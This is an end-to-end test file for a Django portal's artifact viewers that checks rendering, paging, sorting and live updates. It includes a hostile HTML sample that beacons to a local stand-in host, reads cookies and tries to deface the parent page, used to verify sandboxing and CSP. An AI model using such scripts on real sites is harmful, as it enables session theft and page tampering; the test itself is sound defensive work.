"""Every viewer kind on a run page in Debian's Chromium, with the whole real stack:
MinIO → Kafka → consumer → Celery worker → daphne (portal) + daphne (web-app origin).

Also the hostile side: Markdown and HTML carrying scripts. The page's
marker must stay untouched, the Markdown script must never run, and the
web-app frame's script (which does run, sandboxed on the other origin)
must find the portal's cookies and DOM out of reach.
"""

import json

import pytest
from django.contrib.auth.models import Group

from runs.models import Artifact, Rendition
from runs.services.access import bucket_grant_create
from tests.e2e.conftest import APP_NAME, RESULTS, Daphne, free_port, log_in, screenshot
from tests.helpers import put, wait_for
from tests.runs.rendering import files

pytestmark = pytest.mark.e2e

RUN = "e2e-viewers"

HOSTILE_APP = b"""<!doctype html><html><body><h1 id="h">Web app output</h1><script>
document.addEventListener("securitypolicyviolation", function (e) {
  parent.postMessage({csp: e.violatedDirective, blocked: e.blockedURI}, "*");
});
fetch("http://localhost:9/beacon?leak=1").catch(function () {});
var report = {};
try { report.cookie = document.cookie; } catch (e) { report.cookie = "blocked:" + e.name; }
try { parent.document.body.dataset.marker = "pwned"; report.parent = "touched"; }
catch (e) { report.parent = "blocked:" + e.name; }
try { report.storage = String(localStorage.length); } catch (e) { report.storage = "blocked:" + e.name; }
report.origin = String(self.origin);
parent.postMessage(report, "*");
document.getElementById("h").textContent = "Web app output (script ran)";
</script></body></html>"""

CAPTURE = """
window.__frameReports = [];
window.__cspViolations = [];
document.addEventListener("securitypolicyviolation", function (e) {
  window.__cspViolations.push(e.violatedDirective + " " + e.blockedURI);
});
addEventListener("message", function (e) { window.__frameReports.push({origin: e.origin, data: e.data}); });
document.addEventListener("DOMContentLoaded", function () { document.body.dataset.marker = "untouched"; });
"""


@pytest.fixture
def portal(transactional_db, webapp_origin, celery_worker_process):
    """The portal (daphne) pointing its web-app iframes at a web-app origin on another host name,
    queueing its tasks (table sorts) to this test's worker."""
    from django.conf import settings

    from tests.helpers import database_url

    RESULTS.mkdir(parents=True, exist_ok=True)
    server = Daphne(database_url(application_name=APP_NAME), free_port(), RESULTS / "daphne-viewers.log")
    app = webapp_origin(portal_url=server.url)  # its documents come from this portal
    # "localhost" vs the portal's 127.0.0.1: another site, so no portal cookie ever goes there.
    server.env["WEBAPP_ORIGIN"] = f"http://localhost:{app.port}"
    server.env["RENDER_QUEUE"] = settings.RENDER_QUEUE
    server.start()
    yield server
    server.stop()


def parquet_dataset(rows: int) -> bytes:
    import io

    import pyarrow as pa
    import pyarrow.parquet as pq

    buf = io.BytesIO()
    table = pa.table(
        {
            "sample": pa.array(range(rows), pa.int32()),
            "label": pa.array([["cat", "dog", "bird"][i % 3] for i in range(rows)]),
            "when": pa.array([1_764_000_000_000 + i for i in range(rows)], pa.timestamp("ms")),
        }
    )
    pq.write_table(table, buf, row_group_size=100)
    return buf.getvalue()


def all_rendered(bucket, keys) -> bool:
    arts = list(Artifact.objects.filter(bucket=bucket, key__in=keys))
    if len(arts) != len(keys):
        return False
    for a in arts:
        rows = Rendition.objects.filter(artifact=a, etag=a.etag)
        if not rows.exists() or rows.filter(status__in=["pending", "rendering"]).exists():
            return False
    return True


def test_run_page_shows_every_viewer_kind_and_keeps_scripts_out(
    minio, live_bucket, running_consumer, celery_worker_process, portal, browser_page, django_user_model
):
    try:
        check_every_viewer(minio, live_bucket, portal, browser_page, django_user_model)
    finally:
        # ORM calls made while Playwright's loop runs on this thread get their own
        # connection (asgiref context); close it so the test database can be dropped.
        from django.db import connections

        connections.close_all()


def check_every_viewer(minio, live_bucket, portal, browser_page, django_user_model):
    b = live_bucket.name
    uploads = {
        f"{RUN}/data/sample.jpg": (files.jpeg(1600, 1200, orientation=6), "image/jpeg"),
        f"{RUN}/data/train.csv": (files.csv_text(500), "text/csv"),
        f"{RUN}/train/main.log": (
            b"".join(b"step %d loss 0.%04d\n" % (i, i) for i in range(20000)),
            "text/plain",
        ),
        f"{RUN}/train/progress.json": (
            b'{"current": 30, "total": 120, "message": "epoch 3/12"}',
            "application/json",
        ),
        f"{RUN}/evaluate/roc.csv": (files.ROC_CSV.encode(), "text/csv"),
        f"{RUN}/predict/part-0.csv": (files.TABLE_CSV.encode(), "text/csv"),
        f"{RUN}/evaluate/mlpipeline-metrics.tgz": (
            files.tgz({"mlpipeline-metrics.json": files.metrics_json()}),
            "application/gzip",
        ),
        f"{RUN}/report/app.html": (HOSTILE_APP, "text/html"),
        f"{RUN}/report/notes.md": (files.MARKDOWN.encode(), "text/markdown"),
        f"{RUN}/report/weights.bin": (b"\x00\x01" * 512, "application/octet-stream"),
        f"{RUN}/data/dataset.parquet": (parquet_dataset(240), "application/octet-stream"),
    }
    meta = files.ui_metadata(bucket=b, run_prefix=RUN)
    uploads[f"{RUN}/evaluate/mlpipeline-ui-metadata.tgz"] = (
        files.tgz({"mlpipeline-ui-metadata.json": json.dumps(meta).encode()}),
        "application/gzip",
    )
    for key, (data, ctype) in uploads.items():
        put(minio, b, key, data, ctype)
    wait_for(lambda: all_rendered(live_bucket, list(uploads)), timeout=90, what="every rendition")
    # The files the metadata names are rendered again as it says: roc.csv as a ROC curve with
    # the schema, part-0.csv as a table under the declared header.
    wait_for(
        lambda: (
            Rendition.objects.filter(
                artifact__key=f"{RUN}/evaluate/roc.csv", artifact__kind="roc", viewer="roc", status="ready"
            ).exists()
            and Rendition.objects.filter(
                artifact__key=f"{RUN}/predict/part-0.csv", status="ready", payload__header__0="flower"
            ).exists()
            and all_rendered(live_bucket, list(uploads))
        ),
        timeout=90,
        what="the referenced files rendered as the metadata says",
    )

    user = django_user_model.objects.create_user(username="viewer", password="viewer-pass-123")
    group = Group.objects.create(name="viewers")
    user.groups.add(group)
    bucket_grant_create(group=group, bucket=live_bucket)

    page = browser_page
    page.add_init_script(CAPTURE)
    log_in(page, portal.url, "viewer", "viewer-pass-123")
    run_id = Artifact.objects.get(bucket=live_bucket, key=f"{RUN}/data/train.csv").run_id
    page.goto(f"{portal.url}/runs/{run_id}/")

    # image: the thumbnail loaded, upright
    thumb = page.locator('[data-viewer="image"] img.thumb')
    thumb.wait_for()
    wait_for(
        lambda: page.evaluate("(img) => img.complete && img.naturalWidth", thumb.element_handle()),
        what="the thumbnail to load",
    )
    w, h = page.evaluate("(img) => [img.naturalWidth, img.naturalHeight]", thumb.element_handle())
    assert h > w

    # table: first page, then the next page from the server
    table_id = Artifact.objects.get(key=f"{RUN}/data/train.csv").pk
    table = page.locator(f"#artifact-{table_id} .table-viewer")
    assert table.locator("tbody tr").first.inner_text().split("\t")[:2] == ["0", "item, 0"]
    assert "of 500" in table.locator(".facts").inner_text()
    table.locator('button[data-page="next"]').click()
    page.wait_for_function(
        "(el) => el.textContent.startsWith('Rows 51')", arg=table.locator(".row-range").element_handle()
    )
    assert table.locator("tbody tr").first.inner_text().startswith("50\t")
    # sorting: the worker builds the sorted copy while the page asks again (202), then shows it
    table.locator('th[data-col="2"]').click()  # score, ascending
    table.locator('th[data-col="2"]').click()  # descending
    page.wait_for_function(
        "(tbody) => tbody.rows.length && tbody.rows[0].cells[0].textContent === '499'",
        arg=table.locator("tbody").element_handle(),
        timeout=30_000,
    )
    assert table.locator(".row-range").inner_text() == "Rows 1–50"

    # the six KFP metadata outputs
    cm = page.locator(".cm-viewer")
    assert cm.locator("tbody tr").first.locator("td").first.inner_text().strip().startswith("9")
    cm.locator(".cm-normalise").check()
    assert cm.locator("tbody tr").first.locator("td .cm-pct").first.is_visible()
    page.locator(".roc-viewer canvas").first.wait_for()
    assert page.locator(".roc-viewer .auc").first.inner_text().startswith("0.")  # roc.csv is one too
    assert page.locator('[data-viewer="tensorboard"] code').first.inner_text().endswith("/train/logs")
    # the metadata's table, and part-0.csv, which it references as a table with that header
    assert page.locator('[data-viewer="table"] th', has_text="flower").count() == 2

    # references, on both sides: roc.csv is listed as a ROC curve and links to the metadata file
    roc_row = page.locator(f"#artifact-{Artifact.objects.get(key=f'{RUN}/evaluate/roc.csv').pk}")
    assert roc_row.locator('[data-f="kind"]').inner_text() == "roc"
    roc_row.scroll_into_view_if_needed()  # previews past the first few load when shown
    roc_row.locator(".roc-viewer canvas").wait_for()
    referenced_by = roc_row.locator(".referenced-by")
    assert referenced_by.inner_text() == "Referenced by mlpipeline-ui-metadata.tgz as ROC curve"
    meta_row = page.locator(
        f"#artifact-{Artifact.objects.get(key=f'{RUN}/evaluate/mlpipeline-ui-metadata.tgz').pk}"
    )
    meta_row.scroll_into_view_if_needed()
    assert meta_row.locator(".references-out li", has_text="ROC curve: roc.csv").count() == 1
    assert meta_row.locator(".references-out li", has_text="Table: part-0.csv").count() == 1

    # parquet: a paged table with its Arrow schema
    parquet_id = Artifact.objects.get(key=f"{RUN}/data/dataset.parquet").pk
    page.locator(f"#artifact-{parquet_id}").scroll_into_view_if_needed()
    pq_table = page.locator(f"#artifact-{parquet_id} .table-viewer")
    assert "of 240" in pq_table.locator(".facts").inner_text()
    assert "Parquet, 3 row groups" in pq_table.locator(".facts").inner_text()
    assert pq_table.locator("th small.ctype").first.inner_text() == "int32"
    pq_table.locator('button[data-page="last"]').click()
    page.wait_for_function(
        "(el) => el.textContent === 'Rows 191–240'", arg=pq_table.locator(".row-range").element_handle()
    )
    assert pq_table.locator("table.data tbody tr").last.inner_text().startswith("239\t")
    pq_table.locator(".table-schema summary").click()
    assert "timestamp[ms]" in pq_table.locator(".table-schema").inner_text()

    # markdown: rendered, the script shown as text and never run
    assert page.locator(".markdown-body h1", has_text="Inline Markdown").count() == 2
    assert page.evaluate("window.pwned") is None

    # log tail, and earlier text on demand
    log = page.locator(".text-viewer")
    assert "step 19999 loss" in log.locator("pre").inner_text()
    before = len(log.locator("pre").inner_text())
    log.locator(".load-earlier").click()
    page.wait_for_function(
        f"(el) => el.textContent.length > {before}", arg=log.locator("pre").element_handle()
    )

    assert page.locator(".progress-viewer progress").get_attribute("value") == "25.0"
    assert page.locator(".progress-viewer .message").inner_text() == "epoch 3/12"
    assert "91.37%" in page.locator("table.metrics").inner_text()
    assert (
        "No preview for this kind of file"
        in page.locator(f"#artifact-{Artifact.objects.get(key=f'{RUN}/report/weights.bin').pk}").inner_text()
    )

    # web apps: scripts run inside the sandboxed frame on the other origin, and nowhere else
    frames = page.locator("iframe.webapp")
    assert frames.count() == 2
    for i in range(2):
        assert frames.nth(i).get_attribute("sandbox") == "allow-scripts"
        assert frames.nth(i).get_attribute("src").startswith("http://localhost:")
    page.frame_locator(
        f"#artifact-{Artifact.objects.get(key=f'{RUN}/report/app.html').pk} iframe.webapp"
    ).locator("h1", has_text="script ran").wait_for()
    reports = wait_for(
        lambda: [r for r in page.evaluate("window.__frameReports") if "cookie" in r["data"]],
        what="the frame's report",
    )
    report = reports[0]
    # The frame's beacon was blocked by the web-app origin's CSP (connect-src 'none').
    blocked = wait_for(
        lambda: [r["data"] for r in page.evaluate("window.__frameReports") if "csp" in r["data"]],
        what="the frame's CSP violation report",
    )
    assert blocked[0]["csp"] == "connect-src" and "localhost:9" in blocked[0]["blocked"]
    assert report["origin"] == "null" and report["data"]["origin"] == "null"  # opaque origin
    assert report["data"]["cookie"].startswith("blocked:") and report["data"]["parent"].startswith("blocked:")
    assert page.evaluate("document.body.dataset.marker") == "untouched"
    assert page.context.cookies()  # the portal does have a session cookie the frame could not read

    meta_pk = Artifact.objects.get(key=f"{RUN}/evaluate/mlpipeline-ui-metadata.tgz").pk
    page.frame_locator(f"#artifact-{meta_pk} iframe.webapp").locator(
        "h1", has_text="Hello, World!"
    ).wait_for()
    # Everything above worked under the portal's strict CSP, which the page never violated.
    assert page.evaluate("window.__cspViolations") == []
    screenshot(page, "viewers-every-kind")
    # Out-of-process frames can come out blank in a full-page capture; one of the frame itself.
    frames.last.scroll_into_view_if_needed()
    frames.last.screenshot(path=str(RESULTS / "viewers-web-app-frame.png"))


def test_previews_swap_in_place_and_a_log_tail_grows_live(
    minio, live_bucket, running_consumer, celery_worker_process, portal, browser_page, django_user_model
):
    try:
        check_live_swaps(minio, live_bucket, portal, browser_page, django_user_model)
    finally:
        from django.db import connections

        connections.close_all()


def check_live_swaps(minio, live_bucket, portal, browser_page, django_user_model):
    b = live_bucket.name
    put(minio, b, "live-run/prepare/readme.md", b"# Started", "text/markdown")
    wait_for(lambda: all_rendered(live_bucket, ["live-run/prepare/readme.md"]), what="the first preview")
    user = django_user_model.objects.create_superuser(username="boss", password="boss-pass-123")
    page = browser_page
    log_in(page, portal.url, user.username, "boss-pass-123")
    run_id = Artifact.objects.get(bucket=live_bucket, key="live-run/prepare/readme.md").run_id
    page.goto(f"{portal.url}/runs/{run_id}/")
    page.locator('#live-status[data-state="live"]').wait_for(timeout=10_000)
    page.evaluate("window.__noReload = true")

    # A new artifact: its row appears, then its rendered preview replaces "queued".
    put(minio, b, "live-run/train/plot.png", files.png(320, 240), "image/png")
    page.locator('[data-viewer="image"] img.thumb').wait_for(timeout=30_000)

    # A log written in three versions: the tail follows each one, in place.
    lines = b""
    for epoch in (1, 2, 3):
        lines += b"epoch %d done\n" % epoch
        put(minio, b, "live-run/train/main.log", lines, "text/plain")
        page.locator("pre.log", has_text=f"epoch {epoch} done").wait_for(timeout=30_000)
    assert page.locator("pre.log").inner_text().splitlines() == [
        "epoch 1 done",
        "epoch 2 done",
        "epoch 3 done",
    ]

    # A step writes a headerless ROC CSV (a table, by its name), then its metadata names it as a
    # ROC curve: the row turns into one, and both rows show the reference, without a reload.
    roc_csv = "".join(f"{x / 10:.1f},{min(1.0, (x / 10) ** 0.5):.3f},{1 - x / 10:.1f}\n" for x in range(11))
    put(minio, b, "live-run/evaluate/roc.csv", roc_csv.encode(), "text/csv")
    roc_id = wait_for(
        lambda: (
            Artifact.objects.filter(bucket=live_bucket, key="live-run/evaluate/roc.csv")
            .values_list("pk", flat=True)
            .first()
        ),
        what="roc.csv stored",
    )
    roc_row = page.locator(f"#artifact-{roc_id}")
    roc_row.locator('[data-viewer="table"] .table-viewer').wait_for(timeout=30_000)
    assert roc_row.locator('[data-f="kind"]').inner_text() == "table"
    doc = {
        "version": 1,
        "outputs": [
            {
                "type": "roc",
                "format": "csv",
                "schema": [{"name": "fpr"}, {"name": "tpr"}, {"name": "thresholds"}],
                "source": f"minio://{b}/live-run/evaluate/roc.csv",
            }
        ],
    }
    put(
        minio,
        b,
        "live-run/evaluate/mlpipeline-ui-metadata.json",
        json.dumps(doc).encode(),
        "application/json",
    )
    page.wait_for_function(
        "(el) => el.textContent === 'roc'",
        arg=roc_row.locator('[data-f="kind"]').element_handle(),
        timeout=30_000,
    )
    roc_row.locator(".roc-viewer canvas").wait_for(timeout=30_000)
    roc_row.locator(".referenced-by", has_text="as ROC curve").wait_for(timeout=30_000)
    meta_id = Artifact.objects.get(bucket=live_bucket, key="live-run/evaluate/mlpipeline-ui-metadata.json").pk
    page.locator(f"#artifact-{meta_id} .references-out li", has_text="ROC curve: roc.csv").wait_for(
        timeout=30_000
    )
    assert page.evaluate("window.__noReload") is True
    screenshot(page, "viewers-live-swap")
